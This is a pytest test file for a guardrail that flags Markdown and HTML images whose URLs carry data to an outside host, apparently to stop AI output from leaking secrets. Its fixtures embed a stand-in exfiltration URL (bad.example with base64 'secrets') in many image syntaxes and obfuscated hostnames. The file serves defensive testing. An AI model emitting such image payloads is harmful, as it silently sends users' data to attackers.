"""Images that carry data out are images however Markdown and HTML let them be written, cut into pieces or not."""

import time
from typing import Any

import pytest

from tidegate.engine.yamlfile import Located
from tidegate.guardrails.detectors.base import Context, find_from
from tidegate.guardrails.detectors.url import host_of
from tidegate.guardrails.rules.compile import detector

U = "https://bad.example/p?d=" + "QWxsIHRoZSBzZWNyZXRz" * 3
IMAGES = {"url": {"images": True, "data": 24}}


def made(config: Any) -> Any:
    return detector(config, Context(Located(None, "rules.yaml"), (), "URL"))


def found(config: Any, text: str) -> list[str]:
    return [text[f.start : f.end] for f in made(config).find(text)]


def streamed(url: Any, text: str) -> list[str]:
    """What is found where the text comes character by character, as a stream settles it."""
    out: list[str] = []
    settled = 0
    for end in range(1, len(text) + 1):
        safe = max(settled, end if end == len(text) else url.open_from(text[:end]))
        hits = find_from(url, text[:end], settled)
        while cut := [f.start for f in hits if f.start < safe < f.end]:
            safe = min(cut)
        out += [text[f.start : f.end] for f in hits if f.end <= safe]
        settled = max(settled, safe)
    return out


@pytest.mark.parametrize(
    "text",
    [
        "![a\nb](U)", "![a [b] c](U)", "![a \\] c](U)", f"![{'a' * 600}](U)", "![a](    U)", "![a](\n\tU 'title')",
        "![a](https://bad.example/(x)/p?d=" + "a" * 30 + ")", "[![a](U)](https://good.example)", "![a](<U>)",
        "<img src  =  \"U\">", '<img alt=">" src="U">', f'<img alt="{"a" * 900}" src="U">', "<img '=\" src=U>",
        '<img srcset="/a.png 1x, U 2x">', '<p style="background:url(U)">', "<b style='background: &#117;rl( \"U\" )'>",
        "<svg><image xlink:href='U'/></svg>",
    ],
)  # fmt: skip
def test_every_way_to_write_an_image_is_one(text: str) -> None:
    text = f"see {text.replace('U', U)} there"
    [image] = found(IMAGES, text)
    assert "p?d=" in image
    assert streamed(made(IMAGES), text) == [image]


@pytest.mark.parametrize(
    "text",
    [
        "![a][r]\n\n[r]: U", "![r][]\n\n[r]: U", "![r]\n\n[R]: U", "![a][r s]\n\n[r\ns]:     U",
        "![a][r]\n\n[r]:\n    U 'x'",
        "![a][r]\n\n> [r]: U", "![a][r]\n\n> [r]:\n> <U>", "![a\nb [c]][r]\n\n[r]: U", "![a][r]\n\n- [r]: U",
    ],
)  # fmt: skip
def test_a_definition_that_an_image_refers_to_is_its_target(text: str) -> None:
    text = text.replace("U", U)
    assert [U in each for each in found(IMAGES, text)] == [True]
    assert streamed(made(IMAGES), text) == found(IMAGES, text)


def test_links_and_definitions_of_links_are_no_images() -> None:
    for text in ("[a](U)", "[a [b] c](U)", "[a][r]\n\n[r]: U", "[r]\n\n[r]: U\n\n![q]", "a[0](U)", "![x] [a](U)"):
        assert found(IMAGES, text.replace("U", U)) == [], text
    assert found(IMAGES, f"<a title='style of url(x)' href='{U}'>") == []


def test_behind_a_label_too_long_to_be_held_an_image_is_assumed() -> None:
    text = f"![{'a ' * 700}]({U})"
    assert found(IMAGES, text) == streamed(made(IMAGES), text) == [f"]({U})"]


@pytest.mark.parametrize(
    "url",
    [
        "https://bad%2Eexample/", "https://%62ad.example/", "https://b%e2%80%8bad.example", "https://ba\u2064d.example/",
        "https://\U0001f131ad.example/", "https://\U0001d41bad.example/", "https://bad\u3002example/",
    ],
)  # fmt: skip
def test_a_host_is_the_one_that_its_letters_stand_for(url: str) -> None:
    assert host_of(url) == "bad.example"
    assert found({"url": {"deny": ["bad.example"]}}, f"see {url} there") == [url]


@pytest.mark.parametrize(
    "part", ["<img ", "![", "[a](", "![a](", "](", "]: ", "[a]: ", "<img a='", 'style="', "style= ", "<img a=b "]
)
def test_no_signs_of_targets_take_time_to_speak_of(part: str) -> None:
    url, text = made(IMAGES), part * (100_000 // len(part))
    began = time.perf_counter()
    url.find(f"{text} {U}")
    url.open_from(text)
    assert time.perf_counter() - began < 2
